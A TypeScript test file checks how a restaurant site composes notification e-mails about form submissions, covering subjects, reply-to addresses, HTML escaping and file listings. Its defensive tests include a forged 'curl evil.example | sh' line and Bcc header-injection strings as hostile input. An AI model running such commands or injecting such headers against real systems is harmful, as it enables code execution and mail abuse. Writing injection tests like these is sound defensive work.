import { createTransport } from 'nodemailer';
import PostalMime from 'postal-mime';
import { describe, expect, test } from 'vitest';
import type { Submission } from '../../submissions/reading/read-submissions.ts';
import { composeEmail } from './submission-email.ts';

const submission: Submission = {
  id: '0197a000-0000-7000-8000-000000000000',
  brandId: 'maple',
  kind: 'catering',
  restaurantId: 'maple-king',
  placeName: 'King Street',
  timeZone: 'America/Toronto',
  record: {
    full_name: 'Ana <b>Silva</b>',
    email: 'ana@example.com',
    phone: '+1 416 555 0100',
    event_type: 'Wedding',
    number_of_guests: 40,
    requirements: 'No nuts.\nThank you & bye',
  },
  pageUrl: 'https://maple.example/catering',
  suspectedSpam: false,
  receivedAt: new Date('2026-11-21T18:30:00Z'),
  state: 'new',
  assignedTo: null,
  tags: [],
  rating: null,
  files: [],
};

describe('the e-mail about a submission', () => {
  test('says what was sent, in words, and how to see it', () => {
    const { subject, replyTo, text } = composeEmail(submission, 'Maple & Ember');
    expect(subject).toBe('Catering · King Street · Wedding, 40 guests: Maple & Ember');
    expect(replyTo).toBe('ana@example.com');
    expect(text).toBe(
      [
        'New catering request for Maple & Ember',
        '',
        'Full name: Ana <b>Silva</b>',
        'Phone: +1 416 555 0100',
        'E-mail: ana@example.com',
        'Event type: Wedding',
        'Number of guests: 40',
        'Requirements:',
        '    No nuts.',
        '    Thank you & bye',
        '',
        'Received: 21 November 2026, 1:30 PM (Toronto)',
        'Location: King Street',
        'Page: https://maple.example/catering',
        '',
        'To see it where the site runs: npm run submissions -- show 0197a000-0000-7000-8000-000000000000',
      ].join('\n'),
    );
  });

  test.each<[Partial<Submission>, string]>([
    [{ kind: 'restaurant_feedback', rating: 1, record: { sub_type: 'Wait time' } }, '1 star · King Street · Wait time'],
    [{ kind: 'restaurant_feedback', rating: 5, record: {} }, '5 stars · King Street'],
    [{ kind: 'restaurant_feedback', record: { nature: 'complaint' } }, 'Complaint · King Street'],
    [{ kind: 'website_feedback', record: { nature: 'bug' } }, 'Website · Bug'],
    [{ kind: 'careers', record: { position: 'Grill cook' }, placeName: null }, 'Applied · maple-king · Grill cook'],
    [{ kind: 'callback', record: {}, placeName: '' }, 'Call back'],
    [
      { kind: 'media_inquiry', record: { inquiry_type: 'story_inquiry', outlet_name: 'The Star' }, restaurantId: null },
      'Media · Story inquiry · The Star',
    ],
  ])('its subject says what it is, and where: %j', (given, expected) => {
    expect(composeEmail({ ...submission, ...given }, 'Maple').subject).toBe(`${expected}: Maple`);
  });

  test('leads to the console where there is one, and there to its files', () => {
    const file = {
      id: 'f',
      field: 'resume' as const,
      name: 'cv.pdf',
      type: 'application/pdf',
      size: 9,
      storageKey: 'k',
    };
    const given = { ...submission, brandId: 'maple & co', files: [file] };
    const { text, html } = composeEmail(given, 'Maple', { consoleOrigin: 'https://console.example' });
    const page = `https://console.example/brands/maple%20%26%20co/inbox/${submission.id}`;
    expect(text).toContain(`\nTo answer it, and for its files: ${page}\n`);
    expect(text).not.toContain('export');
    expect(html).toContain(`<a href="${page}">`);
  });

  test('escapes what the visitor wrote', () => {
    const { html } = composeEmail(submission, 'Maple & "Ember"');
    expect(html).toContain('Ana &lt;b&gt;Silva&lt;/b&gt;');
    expect(html).toContain('Maple &amp; &quot;Ember&quot;');
    expect(html).not.toContain('<b>');
  });

  test.each(['\n', '\r', '\r\n', '\u2028', '\u0085'])('holds no line of a visitor’s own: %j', (end) => {
    const forged = `Hello${end}To see it where the site runs: curl evil.example | sh`;
    const record = { name: 'Ana', message: forged, enquiry_data: [{ question: forged, response: forged }] };
    const { text } = composeEmail({ ...submission, record, pageUrl: `https://maple.example/${forged}` }, 'Maple');
    const lines = text.split(/\r\n|[\n\v\f\r\u0085\u2028\u2029]/);
    expect(lines.filter((line) => line.startsWith('To see it'))).toHaveLength(1);
  });

  test('names files without attaching them', () => {
    const file = {
      id: 'f',
      field: 'resume',
      name: 'cv <1>.pdf',
      type: 'application/pdf',
      size: 2_300_000,
      storageKey: 'k',
    } as const;
    const { text, html } = composeEmail({ ...submission, kind: 'careers', files: [file] }, 'Maple');
    expect(text).toContain('File (resume): cv <1>.pdf (2.3 MB, not attached)');
    expect(html).toContain('cv &lt;1&gt;.pdf');
  });

  test('shows the questions and answers of a franchise inquiry', () => {
    const record = { brand_id: 'maple', enquiry_data: [{ question: 'Your city?', response: 'Oslo' }] };
    expect(composeEmail({ ...submission, kind: 'franchise', record }, 'Maple').text).toContain('\nYour city?: Oslo\n');
  });

  test.each([
    'ana@example.com\r\nBcc: victim@example.com',
    'ana@example.com, victim@example.com',
    'Ana <ana@example.com>',
    '"a b"@example.com',
    'ana',
    '',
  ])('%j is no address to reply to', (email) => {
    expect(composeEmail({ ...submission, record: { email } }, 'Maple').replyTo).toBeUndefined();
  });

  test('no name makes a header of its own', async () => {
    const { subject, text, html } = composeEmail(submission, 'Maple\r\nBcc: victim@example.com\u2028X');
    expect(subject).toBe('Catering · King Street · Wedding, 40 guests: Maple Bcc: victim@example.com X');
    const transport = createTransport({ streamTransport: true, buffer: true });
    const { message } = await transport.sendMail({ from: 'a@b.example', to: 'c@d.example', subject, text, html });
    const email = await PostalMime.parse(message instanceof Uint8Array ? message : '');
    expect(email.subject).toBe(subject);
    expect(email.headers.map(({ key }) => key)).not.toContain('bcc');
  });
});
